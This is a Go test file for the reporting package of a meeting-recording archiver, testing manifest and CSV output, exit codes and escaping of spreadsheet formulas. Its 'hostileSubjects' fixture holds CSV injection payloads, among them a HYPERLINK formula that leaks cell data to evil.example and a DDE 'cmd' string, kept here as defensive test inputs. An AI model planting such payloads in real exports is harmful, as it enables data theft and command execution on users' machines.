package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

var (
	t0       = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
	finished = t0.Add(90 * time.Minute)
)

// hostileSubjects are subjects an attacker (or an unlucky user) could give a
// meeting: formula prefixes, CSV syntax, control characters, emoji, length.
var hostileSubjects = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(A1:A9)",
	"\tleading tab",
	"\rleading CR",
	`Quote "inside" and "more"`,
	"Comma, separated, subject",
	"Line one\nLine two\r\nLine three",
	"Emoji 🎉🚀 会议 ünïcödé",
	strings.Repeat("0123456789", 200), // 2,000 characters
	"Plain weekly sync",
	"ctrl\x01\x1fchars\x7f",  // not allowed in XML: U+FFFD in the spreadsheet
	"literal _x0041_ escape", // looks like an OOXML escape
}

func testInfo() RunInfo {
	return RunInfo{
		RunID:       "run-20260301-0900",
		Version:     "v1.2.3",
		Started:     t0,
		Input:       "uuids.csv",
		InputSHA256: strings.Repeat("ab", 32),
		Dest:        "s3://archive/meetings",
		Options: map[string]string{
			"keyTemplate": "{{.Year}}/{{.Month}}/{{.ConfUUID}}/{{.FileType}}_{{.FileName}}",
			"lockMode":    "COMPLIANCE",
			"retainDays":  "3650",
			"links":       "auto",
		},
		Shard: "1/1",
	}
}

func uuid(i int) string {
	return strings.Repeat("0", 28) + string("0123456789abcdef"[i/16%16]) + string("0123456789abcdef"[i%16]) + "ff"
}

// fixtureRows returns a run's rows in input order: one conference per
// hostile subject with varying outcomes, plus conference-level outcomes.
func fixtureRows() []Row {
	var rows []Row
	seq := 0
	for i, subj := range hostileSubjects {
		base := Row{
			Seq: seq, ConfUUID: uuid(i), ConfID: "98765" + string(rune('0'+i%10)),
			Subject: subj, ScheduserName: "Alice Example", StartTime: "2019-12-19 02:07",
			RecordingSecs: 3600 + i,
		}
		switch i % 4 {
		case 0, 1: // archived, two files
			for f := range 2 {
				r := base
				r.Status = Archived
				r.FileIndex = f
				r.FileType = "Hd"
				r.FileName = "0_" + string(rune('0'+f)) + ".mp4"
				r.ObjectURI = "s3://archive/meetings/2019/12/" + r.ConfUUID + "/Hd_" + r.FileName
				r.Bytes = int64(1_000_000*(i+1) + f)
				r.SHA256 = strings.Repeat(string("0123456789abcdef"[i%16]), 64)
				r.PlatformSHA256 = r.SHA256
				r.VersionID = "v" + uuid(i)[28:]
				r.LockMode = "COMPLIANCE"
				r.RetainUntil = time.Date(2036, 3, 1, 0, 0, 0, 0, time.UTC)
				r.LegalHold = i%2 == 0
				r.Attempts = 1
				r.FinishedAt = t0.Add(time.Duration(i) * time.Minute)
				rows = append(rows, r)
			}
		case 2: // failed on one file after the other was stored
			r := base
			r.Status, r.FileIndex, r.FileType, r.FileName = Archived, 0, "Sd", "0_0.mp4"
			r.Bytes, r.Attempts, r.FinishedAt = 42, 1, t0.Add(time.Duration(i)*time.Minute)
			r.ObjectURI = "s3://archive/meetings/x/" + r.FileName
			rows = append(rows, r)
			r = base
			r.Status, r.FileIndex, r.FileType, r.FileName = Failed, 1, "Sd", "0_1.mp4"
			r.Attempts, r.ErrorCode = 5, "timeout"
			r.ErrorMessage = `export: media: Get "https://10.0.0.1/videoSD/0_1.mp4": context deadline exceeded`
			r.FinishedAt = t0.Add(time.Duration(i) * time.Minute)
			rows = append(rows, r)
		case 3: // conference-level outcomes
			r := base
			r.Status = []Status{PendingTranscode, Unavailable, NoFiles}[i/4%3]
			r.FinishedAt = t0.Add(time.Duration(i) * time.Minute)
			rows = append(rows, r)
		}
		seq++
	}
	rows = append(rows,
		Row{Seq: seq, ConfUUID: "not-a-uuid", Status: InvalidInput, ErrorCode: "invalid-input", ErrorMessage: "=not a UUID"},
		Row{Seq: seq + 1, ConfUUID: uuid(0), Status: DuplicateInput, ErrorCode: "duplicate-input", ErrorMessage: "same as line 1"},
		Row{Seq: seq + 2, ConfUUID: uuid(99), Status: Cancelled, ErrorCode: "cancelled", Attempts: 1},
		Row{Seq: seq + 3, ConfUUID: uuid(98), Status: Failed, ErrorCode: "MMC.111070005", ErrorMessage: "-meeting does not exist", Attempts: 1},
		Row{Seq: seq + 4, ConfUUID: uuid(97), Status: AlreadyArchived, FileType: "Hd", FileName: "0_0.mp4", Bytes: 7, ObjectURI: "/srv/archive/x"},
	)
	return rows
}

// shuffled returns rows in a fixed "completion order" different from input order.
func shuffled(rows []Row) []Row {
	out := make([]Row, 0, len(rows))
	for i := len(rows) - 1; i >= 0; i -= 2 {
		out = append(out, rows[i])
	}
	for i := len(rows) - 2; i >= 0; i -= 2 {
		out = append(out, rows[i])
	}
	return out
}

// writeRun writes rows through a Writer into dir with a fixed clock.
func writeRun(t testing.TB, dir string, info RunInfo, rows []Row, exitCode int) Summary {
	t.Helper()
	return writeRunWith(t, dir, info, rows, exitCode, false)
}

// writeRunKeep is writeRun with a journal that stays after Close.
func writeRunKeep(t testing.TB, dir string, info RunInfo, rows []Row, exitCode int) Summary {
	t.Helper()
	return writeRunWith(t, dir, info, rows, exitCode, true)
}

func writeRunWith(t testing.TB, dir string, info RunInfo, rows []Row, exitCode int, keep bool) Summary {
	t.Helper()
	w, err := NewWriter(dir, info)
	if err != nil {
		t.Fatalf("NewWriter: %v", err)
	}
	if keep {
		w.KeepJournal()
	}
	w.now = func() time.Time { return finished }
	for _, r := range rows {
		if err := w.Add(r); err != nil {
			t.Fatalf("Add: %v", err)
		}
	}
	sum, err := w.Close(exitCode)
	if err != nil {
		t.Fatalf("Close: %v", err)
	}
	return sum
}

func checkGolden(t *testing.T, got []byte, name string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run go test ./report -update): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (run go test ./report -update if the change is intended)\ngot:\n%s\nwant:\n%s", name, path, got, want)
	}
}

func TestGolden(t *testing.T) {
	dir := t.TempDir()
	writeRun(t, dir, testInfo(), shuffled(fixtureRows()), ExitFailures)
	for _, name := range []string{ManifestCSV, FailuresCSV, SummaryJSON} {
		t.Run(name, func(t *testing.T) {
			got, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			checkGolden(t, got, filepath.Join("golden", name))
		})
	}
}

// TestDeterministic: the same rows, added in different completion orders,
// give byte-identical CSV files.
func TestDeterministic(t *testing.T) {
	rows := fixtureRows()
	a, b := t.TempDir(), t.TempDir()
	writeRun(t, a, testInfo(), rows, ExitFailures)
	writeRun(t, b, testInfo(), shuffled(rows), ExitFailures)
	for _, name := range []string{ManifestCSV, FailuresCSV, SummaryJSON} {
		ga, err := os.ReadFile(filepath.Join(a, name))
		if err != nil {
			t.Fatal(err)
		}
		gb, err := os.ReadFile(filepath.Join(b, name))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(ga, gb) {
			t.Errorf("%s: input order vs shuffled completion order differ", name)
		}
	}
}

func TestStatusRetry(t *testing.T) {
	want := map[Status]bool{Failed: true, Cancelled: true, PendingTranscode: true}
	for _, s := range Statuses() {
		t.Run(string(s), func(t *testing.T) {
			if got := s.Retry(); got != want[s] {
				t.Errorf("%s.Retry() = %v, want %v", s, got, want[s])
			}
		})
	}
}

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=1+1", "'=1+1"},
		{"plain", "plain"},
		{"a=1", "a=1"},
		{"", ""},
		{"🎉", "🎉"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Neutralize(tt.in); got != tt.want {
				t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got := Neutralize(Neutralize(tt.in)); got != tt.want {
				t.Errorf("Neutralize twice (%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestHint(t *testing.T) {
	tests := []struct {
		name string
		row  Row
		want string // a word the hint must contain; "" = no hint
	}{
		{"archived", Row{Status: Archived}, ""},
		{"unavailable", Row{Status: Unavailable}, ""},
		{"duplicate", Row{Status: DuplicateInput}, ""},
		{"pending", Row{Status: PendingTranscode}, "transcoding"},
		{"cancelled", Row{Status: Cancelled}, "rerun"},
		{"failed", Row{Status: Failed, ErrorCode: "weird"}, "errorMessage"},
		{"not found", Row{Status: NotFound}, "confUUID"},
		{"invalid", Row{Status: InvalidInput}, "input"},
		{"unknown status", Row{Status: "exploded"}, "errorMessage"},
		// The caller's hint wins; report knows no API code.
		{"caller hint", Row{Status: Failed, ErrorCode: "APIG.0308", Hint: "lower --rate"}, "--rate"},
		{"api code without hint", Row{Status: Failed, ErrorCode: "APIG.0308"}, "errorMessage"},
		{"caller hint on archived", Row{Status: Archived, Hint: "note"}, "note"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Hint(tt.row)
			if tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
				t.Errorf("Hint(%+v) = %q, want it to contain %q", tt.row, got, tt.want)
			}
		})
	}
}

func TestStatusFailure(t *testing.T) {
	// An unknown status ("exploded") is a failure: an outcome nobody can
	// name is not a success.
	want := map[Status]bool{Failed: true, Cancelled: true, InvalidInput: true, NotFound: true, "exploded": true}
	for _, s := range append(Statuses(), "exploded") {
		t.Run(string(s), func(t *testing.T) {
			if got, w := s.Failure(), want[s]; got != w {
				t.Errorf("%s.Failure() = %v, want %v", s, got, w)
			}
		})
	}
}

// TestSeverityFailuresFirst: a conference with a failure row and a
// non-failure row is counted under the failure, so the counts decide the
// exit code.
func TestSeverityFailuresFirst(t *testing.T) {
	for _, a := range Statuses() {
		for _, b := range Statuses() {
			if a.Failure() && !b.Failure() {
				if got := worse(a, b); got != a {
					t.Errorf("worse(%s, %s) = %s, want %s", a, b, got, a)
				}
				if got := worse(b, a); got != a {
					t.Errorf("worse(%s, %s) = %s, want %s", b, a, got, a)
				}
			}
		}
	}
}

func TestStatusesNotFound(t *testing.T) {
	got := Statuses()
	i := slices.Index(got, NotFound)
	if i < 0 || got[i-1] != Unavailable {
		t.Errorf("Statuses() = %v, want not-found right after unavailable", got)
	}
	if NotFound.Retry() {
		t.Error("not-found is retried: a rerun cannot fix it")
	}
	if !listedInFailures(NotFound) {
		t.Error("not-found is not in the Failures sheet")
	}
}

func TestExitCode(t *testing.T) {
	tests := []struct {
		name        string
		counts      map[Status]int
		interrupted bool
		fatal       bool
		want        int
	}{
		{"all good", map[Status]int{Archived: 3, AlreadyArchived: 1, PendingTranscode: 1, Unavailable: 1, NoFiles: 1, DuplicateInput: 1, Failed: 0}, false, false, ExitOK},
		{"empty", nil, false, false, ExitOK},
		{"failed", map[Status]int{Archived: 3, Failed: 1}, false, false, ExitFailures},
		{"cancelled", map[Status]int{Cancelled: 1}, false, false, ExitFailures},
		{"invalid input", map[Status]int{InvalidInput: 1}, false, false, ExitFailures},
		{"not found", map[Status]int{Archived: 1, NotFound: 1}, false, false, ExitFailures},
		{"unknown status", map[Status]int{"exploded": 1}, false, false, ExitFailures},
		{"fatal", map[Status]int{Failed: 1}, false, true, ExitFatal},
		{"interrupted wins", map[Status]int{Failed: 1}, true, true, ExitInterrupted},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ExitCode(tt.counts, tt.interrupted, tt.fatal); got != tt.want {
				t.Errorf("ExitCode = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestExitCodeName(t *testing.T) {
	for code, want := range map[int]string{0: "ok", 1: "failures", 2: "usage", 3: "fatal", 130: "interrupted", 7: "exit-7"} {
		if got := ExitCodeName(code); got != want {
			t.Errorf("ExitCodeName(%d) = %q, want %q", code, got, want)
		}
	}
}

func TestPaths(t *testing.T) {
	got := Paths("out")
	want := []string{"out/manifest.xlsx", "out/manifest.csv", "out/failures.csv", "out/sha256sums.txt", "out/summary.html", "out/attestation.html", "out/summary.json"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("Paths = %v, want %v", got, want)
	}
}
